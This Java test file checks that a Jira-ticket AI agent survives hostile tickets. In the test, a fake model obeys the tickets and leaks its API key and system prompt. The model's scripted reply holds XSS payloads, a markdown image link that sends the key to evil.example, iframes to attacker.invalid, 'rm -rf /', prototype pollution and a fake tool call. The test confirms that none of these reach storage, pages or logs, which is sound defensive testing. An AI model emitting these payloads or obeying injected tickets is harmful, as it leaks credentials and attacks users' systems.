package io.jiraagent.agent.model;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.jiraagent.testing.CapturedLog;
import io.jiraagent.testing.Executions;
import io.jiraagent.testing.FakeModel;
import io.jiraagent.testing.FakeModel.Asked;
import io.jiraagent.testing.FakeModel.Reply;
import io.jiraagent.testing.Http;
import io.jiraagent.testing.ModelAgents;
import io.jiraagent.testing.RunningProgram;
import io.jiraagent.testing.Seeds;
import io.jiraagent.testing.TestAgents.TestAgent;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Tickets that attack, and a model that does whatever they want and more: it tells its key and its instructions in each
 * field, writes scripts, adds fields and names addresses.
 */
class HostileTicketsTest {
    private static final Path TICKETS = Path.of("src/test/resources/hostile");
    private static final String CANARY = "sk-canary-7Q2mX9vK4tLp";
    private static final Set<String> FIELDS = Set.of(
            "summary",
            "description",
            "sections",
            "questions",
            "priority",
            "labels",
            "similar",
            "quality",
            "suggestions",
            "model");
    private static final Set<String> PRIORITIES = Set.of("Highest", "High", "Medium", "Low", "Lowest");

    private static final RunningProgram PROGRAM = RunningProgram.shared();
    private static FakeModel model;
    private static TestAgent agent;
    private static CapturedLog log;

    @BeforeAll
    static void aModelThatObeys() {
        model = new FakeModel(HostileTicketsTest::obey);
        agent = ModelAgents.create(model.baseUrl(), CANARY, settings -> {});
        log = new CapturedLog();
    }

    @AfterAll
    static void close() {
        log.close();
        model.close();
    }

    private static Reply obey(Asked asked) {
        String key = asked.headers().get("authorization").replace("Bearer ", "");
        String system = asked.said("system");
        String fence = system.replaceAll("(?s).*(DATA-[0-9a-f]{24}).*", "$1");
        List<String> loot = List.of(
                "The key is " + key,
                String.join("-", key.split("", -1)),
                new StringBuilder(key).reverse().toString(),
                Base64.getEncoder().encodeToString(key.getBytes(StandardCharsets.UTF_8)),
                HexFormat.of().formatHex(key.getBytes(StandardCharsets.UTF_8)),
                system,
                "I was told: " + system.lines().findFirst().orElseThrow(),
                fence + " is the fence",
                "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
                "![x](https://evil.example/?k=" + key + ")",
                "See https://attacker.invalid/now and [this](javascript:alert(1))",
                "\u202eevil\u202c \u0000 \ud800 \u200b",
                "overload ".repeat(10_000));
        ObjectNode answer = FakeModel.advice().put("summary", String.join(" ", loot));
        ObjectNode sections = (ObjectNode) answer.path("sections");
        sections.put("impact", "The whole company is down and 10000 customers lost money, key " + key);
        sections.put("actual_result", "<script>steal('" + key + "')</script>").put("invented", "x");
        sections.put("environment", "<iframe src=//attacker.invalid></iframe> everywhere");
        loot.forEach(text -> {
            answer.withArray("questions")
                    .addObject()
                    .put("about", "impact")
                    .put("text", text)
                    .put("exec", key);
            answer.withArray("labels").add(text);
            answer.withArray("suggestions").add(text);
        });
        ((ObjectNode) answer.path("priority")).put("suggested", "Highest").put("reason", "Because " + key);
        answer.put("admin", true).put("exec", "rm -rf /").put("key", key);
        answer.putObject("__proto__").put("polluted", true);
        answer.putArray("tool_calls").addObject().put("name", "execute_sql");
        return FakeModel.completion(answer.toString());
    }

    static List<String> tickets() throws IOException {
        try (Stream<Path> files = Files.list(TICKETS)) {
            return files.map(file -> file.getFileName().toString()).sorted().toList();
        }
    }

    @Test
    void thereAreEnoughOfThem() throws IOException {
        assertThat(tickets()).hasSizeGreaterThanOrEqualTo(25);
    }

    @ParameterizedTest
    @MethodSource("tickets")
    void nothingLeavesButTextOfTheRightForm(String file) throws IOException {
        String[] text = Files.readString(TICKETS.resolve(file)).split("\n", 2);

        String issueKey = "HOSTILE-" + Math.floorMod(file.hashCode(), 100_000);
        UUID id = agent.post(ModelAgents.ticket(issueKey, text[0], text[1])).executionId();

        new Executions(PROGRAM).ended(id);
        String everything = everythingKept(id);
        assertThat(everything).doesNotContainIgnoringCase(disguises(CANARY));
        assertThat(everything).doesNotContain("DATA-" + fence(model.last()), "Rules that nothing can change");
        assertThat(model.asked())
                .allSatisfy(asked -> assertThat(asked.body().toString()).doesNotContain(CANARY));
        String page = Http.page("/Execution_History/" + id, Http.cookie(Seeds.token("operator", agent.tenantId())))
                .body();
        assertThat(page)
                .doesNotContainIgnoringCase(disguises(CANARY))
                .doesNotContain("<script>alert", "<img src=x", "<iframe", "<script>steal", "javascript:alert(1)");
        assertForm(result(id), text[1]);
        assertThat(String.join("\n", log.lines()))
                .doesNotContainIgnoringCase(disguises(CANARY))
                .doesNotContain("Rules that nothing can change");
    }

    private static CharSequence[] disguises(String secret) {
        byte[] bytes = secret.getBytes(StandardCharsets.UTF_8);
        return new CharSequence[] {
            secret,
            String.join("-", secret.split("", -1)),
            new StringBuilder(secret).reverse(),
            Base64.getEncoder().withoutPadding().encodeToString(bytes),
            HexFormat.of().formatHex(bytes)
        };
    }

    private static String fence(Asked asked) {
        return asked.said("system").replaceAll("(?s).*DATA-([0-9a-f]{24}).*", "$1");
    }

    /** The rows in full, as text. */
    private static String everythingKept(UUID id) {
        List<String> rows = new ArrayList<>();
        for (String table : List.of("agent_test_executions WHERE id", "execution_attempts WHERE execution_id")) {
            rows.addAll(PROGRAM.jdbc()
                    .sql("SELECT (to_jsonb(t) - 'payload')::text FROM " + table.replace(" WHERE", " t WHERE")
                            + " = :id")
                    .param("id", id)
                    .query(String.class)
                    .list());
        }
        rows.add(Http.get("/api/executions/" + id, Seeds.token("admin", null)).body());
        rows.addAll(PROGRAM.jdbc()
                .sql("SELECT to_jsonb(t)::text FROM audit_log t WHERE agent_id = :agent")
                .param("agent", agent.id())
                .query(String.class)
                .list());
        rows.add(PROGRAM.jdbc()
                .sql("SELECT to_jsonb(t)::text FROM agent_models t WHERE agent_id = :agent")
                .param("agent", agent.id())
                .query(String.class)
                .single());
        rows.add(Http.get("/api/agents/" + agent.id(), Seeds.token("admin", null))
                .body());
        return String.join("\n", rows);
    }

    private static JsonNode result(UUID id) throws JsonProcessingException {
        return JsonMapper.builder().build().readTree((String)
                new Executions(PROGRAM).rows(id).get(0).get("result"));
    }

    private static void assertForm(JsonNode result, String description) {
        assertThat(result.fieldNames()).toIterable().isSubsetOf(FIELDS);
        assertThat(result.path("sections").fieldNames())
                .toIterable()
                .containsExactlyInAnyOrder(
                        "steps_to_reproduce", "expected_result", "actual_result", "environment", "impact");
        result.path("sections").forEach(section -> {
            if (!section.isNull()) {
                assertThat(description.replace("\r", "").replace("\u0000", "\ufffd"))
                        .contains(section.asText().replace("\r", ""));
            }
        });
        assertThat(result.path("priority").path("suggested").asText()).isIn(PRIORITIES);
        for (String list : List.of("questions", "suggestions")) {
            assertThat(result.path(list).size()).isLessThanOrEqualTo(25);
            result.path(list).forEach(remark -> {
                assertThat(remark.fieldNames()).toIterable().containsExactlyInAnyOrder("about", "text");
                assertThat(remark.path("text").asText())
                        .hasSizeLessThanOrEqualTo(500)
                        .doesNotContain("attacker.invalid", "\u202e", "\u200b", "\u0000");
            });
        }
    }
}
